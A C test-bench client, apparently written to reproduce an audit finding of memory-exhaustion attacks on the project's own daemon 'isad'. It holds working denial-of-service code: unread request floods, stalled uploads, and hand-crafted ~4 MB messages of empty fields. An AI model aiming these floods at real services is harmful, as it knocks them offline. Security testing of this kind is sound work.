/* bench_attack.c: a raw client for finding 1's memory attacks on isad (see bench/attack.sh). */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zmq.h>

#include "proto/envelope.h"
#include "proto/keyfile.h"

/*
 * bench_attack ENDPOINT SERVER_KEY USER_KEY_FILE ATTACK ARGS...
 *   begins N          N put_begins (OFFICIAL, 100 bytes), never a chunk
 *   titles N BYTES    N put_begins, each with a title of BYTES bytes
 *   chunks ID N SECS  get_begin ID, then N GetChunks sent without reading a
 *                     reply; SECS seconds later hold (not reading), then
 *                     leave without reading
 *   putchunks N BYTES one upload of N chunks of BYTES, all sent at once, no
 *                     reply read; hold, then leave
 *   fields C N        C connections, each sending N put_begins of ~4 MB,
 *                     each two million empty `to` strings (cheap on the
 *                     wire, dear to decode)
 *   lsflood C N       C connections, each sending N ls requests and reading
 *                     no reply; hold, then leave
 * Prints how many put_begins were answered OK, refused, or not answered.
 * Between steps it prints "holding" and waits for a line on stdin, so that
 * the caller can measure isad while the client is still there.
 */

static void *
dealer(void *ctx, const char *ep, const char *sk, const char *keyfile,
    bool lazy)
{
	char pub[KEYFILE_Z85_LEN + 1], sec[KEYFILE_Z85_LEN + 1], err[512];
	void *s = zmq_socket(ctx, ZMQ_DEALER);
	int zero = 0, one = 1, small = 4096;

	if (keyfile_read(keyfile, pub, sec, err, sizeof(err)) != 0) {
		fprintf(stderr, "%s\n", err);
		exit(1);
	}
	zmq_setsockopt(s, ZMQ_CURVE_SERVERKEY, sk, 40);
	zmq_setsockopt(s, ZMQ_CURVE_PUBLICKEY, pub, 40);
	zmq_setsockopt(s, ZMQ_CURVE_SECRETKEY, sec, 40);
	zmq_setsockopt(s, ZMQ_LINGER, &zero, sizeof(zero));
	if (lazy) {	/* a client that does not read: take nothing early */
		zmq_setsockopt(s, ZMQ_RCVHWM, &one, sizeof(one));
		zmq_setsockopt(s, ZMQ_RCVBUF, &small, sizeof(small));
	}
	if (zmq_connect(s, ep) != 0) {
		fprintf(stderr, "connect: %s\n", zmq_strerror(zmq_errno()));
		exit(1);
	}
	return s;
}

static void
send_env(void *s, Isa__Envelope *req)
{
	uint8_t *buf;
	size_t len;

	if (envelope_encode(req, &buf, &len) != 0 ||
	    zmq_send(s, buf, len, 0) < 0) {
		fprintf(stderr, "cannot send\n");
		exit(1);
	}
	free(buf);
}

/* One reply's status (content dropped), or 0 when none came in ms. */
static int
recv_status(void *s, int ms, Isa__Envelope **keep)
{
	zmq_pollitem_t it = { s, 0, ZMQ_POLLIN, 0 };
	zmq_msg_t m;
	Isa__Envelope *e = NULL;
	int more = 1, st;

	if (zmq_poll(&it, 1, ms) != 1)
		return 0;
	for (int i = 0; more; i++) {
		zmq_msg_init(&m);
		if (zmq_msg_recv(&m, s, 0) < 0)
			return 0;
		if (i == 0)
			e = isa__envelope__unpack(NULL, zmq_msg_size(&m),
			    zmq_msg_data(&m));
		more = zmq_msg_more(&m);
		zmq_msg_close(&m);
	}
	if (e == NULL)
		return 0;
	st = e->status;
	if (keep != NULL)
		*keep = e;
	else
		isa__envelope__free_unpacked(e, NULL);
	return st;
}

static void
hold(const char *what)
{
	char line[64];

	printf("holding: %s\n", what);
	fflush(stdout);
	if (fgets(line, sizeof(line), stdin) == NULL)
		return;
}

static void
report(const char *what, long ok, long refused, long silent)
{
	printf("%s: %ld OK, %ld refused, %ld unanswered\n", what, ok, refused,
	    silent);
	fflush(stdout);
}

static void
begins(void *s, long n, size_t title_len)
{
	Isa__Envelope req = ISA__ENVELOPE__INIT;
	Isa__PutBegin pb = ISA__PUT_BEGIN__INIT;
	Isa__DocMeta m = ISA__DOC_META__INIT;
	long ok = 0, refused = 0, silent = 0;
	char *title;

	if (title_len == 0)
		title_len = 1;	/* a document needs a title */
	if ((title = malloc(title_len + 1)) == NULL)
		exit(1);
	memset(title, 'T', title_len);
	title[title_len] = '\0';
	m.title = title;
	m.classification = "OFFICIAL";
	pb.meta = &m;
	pb.size = 100;
	req.body_case = ISA__ENVELOPE__BODY_PUT_BEGIN;
	req.put_begin = &pb;
	for (long i = 0; i < n && silent == 0; i++) {
		int st;

		req.request_id = (uint64_t)i + 1;
		send_env(s, &req);
		st = recv_status(s, 20000, NULL);
		if (st == ISA__STATUS__OK)
			ok++;
		else if (st == 0)
			silent++;	/* isad died, or went quiet */
		else
			refused++;
	}
	report(title_len > 1 ? "put_begin with long titles" : "put_begin",
	    ok, refused, silent);
	free(title);
}

static void
chunks(void *s, const char *id, long n, int secs)
{
	Isa__Envelope req = ISA__ENVELOPE__INIT, *rep = NULL;
	Isa__GetBegin gb = ISA__GET_BEGIN__INIT;
	Isa__GetChunk gc = ISA__GET_CHUNK__INIT;
	uint8_t t[16];

	gb.id = (char *)id;
	req.body_case = ISA__ENVELOPE__BODY_GET_BEGIN;
	req.get_begin = &gb;
	send_env(s, &req);
	if (recv_status(s, 20000, &rep) != ISA__STATUS__OK ||
	    rep->get_begin_reply->transfer.len != sizeof(t)) {
		fprintf(stderr, "get_begin failed\n");
		exit(1);
	}
	memcpy(t, rep->get_begin_reply->transfer.data, sizeof(t));
	isa__envelope__free_unpacked(rep, NULL);
	gc.transfer.data = t;
	gc.transfer.len = sizeof(t);
	req.body_case = ISA__ENVELOPE__BODY_GET_CHUNK;
	req.get_chunk = &gc;
	for (long i = 1; i <= n; i++) {
		gc.index = (uint64_t)i;
		send_env(s, &req);
	}
	sleep((unsigned)secs);	/* isad does what it will meanwhile */
	printf("GetChunk: %ld sent, no reply read\n", n);
	hold("GetChunk requests sent, no reply read");
	/* and it leaves without reading (linger 0) */
}

/* An upload of n chunks of chunk bytes, all sent at once, no reply read. */
static void
putchunks(void *s, long n, size_t chunk)
{
	Isa__Envelope req = ISA__ENVELOPE__INIT, *rep = NULL;
	Isa__PutBegin pb = ISA__PUT_BEGIN__INIT;
	Isa__PutChunk pc = ISA__PUT_CHUNK__INIT;
	Isa__DocMeta m = ISA__DOC_META__INIT;
	uint8_t t[16], *buf, *data = calloc(1, chunk);
	size_t len;

	if (data == NULL)
		exit(1);
	m.title = "t";
	m.classification = "OFFICIAL";
	pb.meta = &m;
	pb.size = (uint64_t)n * chunk;
	req.body_case = ISA__ENVELOPE__BODY_PUT_BEGIN;
	req.put_begin = &pb;
	send_env(s, &req);
	if (recv_status(s, 20000, &rep) != ISA__STATUS__OK) {
		fprintf(stderr, "put_begin failed\n");
		exit(1);
	}
	memcpy(t, rep->put_begin_reply->transfer.data, sizeof(t));
	isa__envelope__free_unpacked(rep, NULL);
	pc.transfer.data = t;
	pc.transfer.len = sizeof(t);
	req.body_case = ISA__ENVELOPE__BODY_PUT_CHUNK;
	req.put_chunk = &pc;
	for (long i = 0; i < n; i++) {
		pc.index = (uint64_t)i;
		if (envelope_encode(&req, &buf, &len) != 0 ||
		    zmq_send(s, buf, len, ZMQ_SNDMORE) < 0 ||
		    zmq_send(s, data, chunk, 0) < 0)
			exit(1);
		free(buf);
	}
	free(data);
	printf("PutChunk: %ld sent, no reply read\n", n);
	hold("PutChunk requests sent, no reply read");
}

/* n put_begins of ~4 MB: a meta of empty `to` strings, written by hand
 * (the library would take as long to build them as isad to read them). */
static void
fields(void *ctx, char **argv, long c, long n)
{
	void **socks = calloc((size_t)c, sizeof(*socks));
	size_t count = 1900000, meta = 2 * count, o = 0;
	uint8_t *buf = malloc(meta + 32);

	if (buf == NULL || socks == NULL)
		exit(1);
	buf[o++] = 0x08;	/* version 1 */
	buf[o++] = 0x01;
	buf[o++] = 0xa2;	/* put_begin (20) */
	buf[o++] = 0x01;
	for (size_t v = meta + 4; v != 0; v >>= 7)	/* its length */
		buf[o++] = (uint8_t)((v & 0x7f) | (v > 0x7f ? 0x80 : 0));
	buf[o++] = 0x0a;	/* meta (1) */
	for (size_t v = meta; v != 0; v >>= 7)
		buf[o++] = (uint8_t)((v & 0x7f) | (v > 0x7f ? 0x80 : 0));
	for (size_t i = 0; i < count; i++) {
		buf[o++] = 0x7a;	/* to (15), empty */
		buf[o++] = 0x00;
	}
	for (long k = 0; k < c; k++)
		socks[k] = dealer(ctx, argv[1], argv[2], argv[3], false);
	for (long i = 0; i < n; i++)
		for (long k = 0; k < c; k++)
			if (zmq_send(socks[k], buf, o, 0) < 0)
				exit(1);
	free(buf);
	sleep(3);	/* isad reads them meanwhile */
	printf("put_begin of %zu bytes: %ld connections, %ld each\n", o, c,
	    n);
	hold("requests sent");
	for (long k = 0; k < c; k++)
		zmq_close(socks[k]);
	free(socks);
}

/* c connections, each sending n ls requests, reading nothing. */
static void
lsflood(void *ctx, char **argv, long c, long n)
{
	Isa__Envelope req = ISA__ENVELOPE__INIT;
	Isa__ListRequest lr = ISA__LIST_REQUEST__INIT;
	void **socks = calloc((size_t)c, sizeof(*socks));

	if (socks == NULL)
		exit(1);
	req.body_case = ISA__ENVELOPE__BODY_LIST;
	req.list = &lr;
	for (long k = 0; k < c; k++) {
		socks[k] = dealer(ctx, argv[1], argv[2], argv[3], true);
		for (long i = 0; i < n; i++)
			send_env(socks[k], &req);
	}
	sleep(5);	/* isad answers meanwhile */
	printf("ls: %ld connections, %ld requests each, no reply read\n", c,
	    n);
	hold("ls requests sent, no reply read");
	for (long k = 0; k < c; k++)
		zmq_close(socks[k]);
	free(socks);
}

int
main(int argc, char **argv)
{
	void *ctx, *s;

	if (argc < 6) {
		fprintf(stderr, "usage: bench_attack ENDPOINT SERVER_KEY "
		    "USER_KEY_FILE begins N | titles N BYTES | chunks ID N "
		    "SECS | putchunks N BYTES | fields C N | lsflood C N\n");
		return 2;
	}
	ctx = zmq_ctx_new();
	s = dealer(ctx, argv[1], argv[2], argv[3],
	    strcmp(argv[4], "chunks") == 0);
	if (strcmp(argv[4], "begins") == 0) {
		begins(s, atol(argv[5]), 0);
		hold("uploads open");
	} else if (strcmp(argv[4], "titles") == 0 && argc == 7) {
		begins(s, atol(argv[5]), (size_t)atol(argv[6]));
		hold("uploads open");
	} else if (strcmp(argv[4], "putchunks") == 0 && argc == 7)
		putchunks(s, atol(argv[5]), (size_t)atol(argv[6]));
	else if (strcmp(argv[4], "chunks") == 0 && argc == 8)
		chunks(s, argv[5], atol(argv[6]), atoi(argv[7]));
	else if (strcmp(argv[4], "fields") == 0 && argc == 7)
		fields(ctx, argv, atol(argv[5]), atol(argv[6]));
	else if (strcmp(argv[4], "lsflood") == 0 && argc == 7)
		lsflood(ctx, argv, atol(argv[5]), atol(argv[6]));
	else {
		fprintf(stderr, "bench_attack: unknown attack\n");
		return 2;
	}
	zmq_close(s);
	zmq_ctx_term(ctx);
	return 0;
}
